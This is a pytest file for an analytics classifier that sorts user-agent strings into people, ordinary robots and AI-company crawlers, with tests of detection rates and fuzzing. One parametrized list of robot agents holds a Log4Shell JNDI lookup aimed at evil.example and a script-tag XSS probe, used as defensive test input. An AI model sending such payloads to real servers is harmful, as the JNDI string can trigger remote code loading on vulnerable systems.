"""Which descriptions are robots, which are agents of AI companies, and that people are neither."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics.agent import agent_of
from analytics.codes import Traffic
from tests.analytics import agents
from tests.analytics.agent_lists import (
    browsers_of_others,
    own_robots,
    robots_of_others,
    seen_browsers,
    share_of_robots,
)


@pytest.mark.parametrize("text", agents.PEOPLE)
def test_people_are_no_robots_not_even_inside_an_application(text):
    assert agent_of(text).traffic is Traffic.PERSON


@pytest.mark.clause("3.2(1)a")
def test_nearly_all_robots_of_the_list_used_are_known(record_property):
    share = share_of_robots(own_robots())
    record_property("robots known, own list", share)
    assert len(own_robots()) > 2000 and share >= 0.99


@pytest.mark.clause("3.2(1)a")
def test_nearly_all_robots_of_another_list_are_known(record_property):
    fresh = sorted(set(robots_of_others()) - set(own_robots()))
    share = share_of_robots(fresh)
    record_property("robots known, other list", share)
    assert len(fresh) > 800 and share >= 0.9


@pytest.mark.clause("3.2(1)a")
def test_hardly_any_browser_of_other_lists_is_taken_for_a_robot(record_property):
    seen = [browser.text for browser in seen_browsers()]
    models = browsers_of_others("phablet", "smartphone-5", "smartphone-20", "smartphone-42", "tablet-3")
    of_seen, of_models = share_of_robots(seen), share_of_robots(models)
    record_property("false alarms, browsers seen on real sites", of_seen)
    record_property("false alarms, one of each model", of_models)
    assert len(seen) > 5000 and of_seen <= 0.001
    assert len(models) > 2000 and of_models <= 0.01


@pytest.mark.parametrize(
    "text",
    [
        "SomeNewBot/1.0 (+https://example.com/bot)", "acme-crawler", "curl/8.5.0", "WhatsApp/2.23.20.0 A",
        "Mozilla/5.0 (compatible; ThingSpider/2.1; http://thing.example)", agents.HEADLESS, "MyFetcher/0.1", "x",
        "Mozilla/5.0 (compatible; FormFinder/1.0)", f"{agents.WINDOWS} SiteMonitor", f"{agents.WINDOWS} a@acme.example",
        "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
    ],
)  # fmt: skip
def test_a_request_that_names_itself_a_program_is_a_robot(text):
    assert agent_of(text).traffic is Traffic.ROBOT


@pytest.mark.parametrize(
    ("text", "traffic"),
    [
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://a.example)",
            "AI_TRAINING",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://a.example",
            "AI_FETCH",
        ),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0", "AI_SEARCH"),
        ("Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "AI_TRAINING"),
        ("Mozilla/5.0 (compatible; Claude-User/1.0; +Claude-User@anthropic.com)", "AI_FETCH"),
        ("Mozilla/5.0 (compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", "AI_SEARCH"),
        ("Mozilla/5.0 (compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)", "AI_FETCH"),
        (f"{agents.PIXEL} (compatible; Bytespider; spider-feedback@bytedance.com)", "AI_TRAINING"),
        ("Mozilla/5.0 (compatible; DeepSeekBot/1.0)", "AI_TRAINING"),
        ("ChatGLM-Spider/1.0", "AI_TRAINING"),
        ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "ROBOT"),
        ("Googlebot/2.1 (+http://www.google.com/bot.html)", "ROBOT"),
    ],
)
def test_an_agent_of_an_ai_company_is_told_from_other_robots_by_what_it_comes_for(text, traffic):
    assert agent_of(text).traffic is Traffic[traffic]


def test_a_site_in_development_may_count_a_headless_browser():
    assert agent_of(agents.HEADLESS, count_automated_browsers=True).traffic is Traffic.PERSON
    assert agent_of("Googlebot/2.1", count_automated_browsers=True).traffic is Traffic.ROBOT
    assert agent_of(agents.HEADLESS).traffic is Traffic.ROBOT


@given(st.text(max_size=2000))
def test_no_description_breaks_the_question(text):
    assert agent_of(text).traffic in Traffic
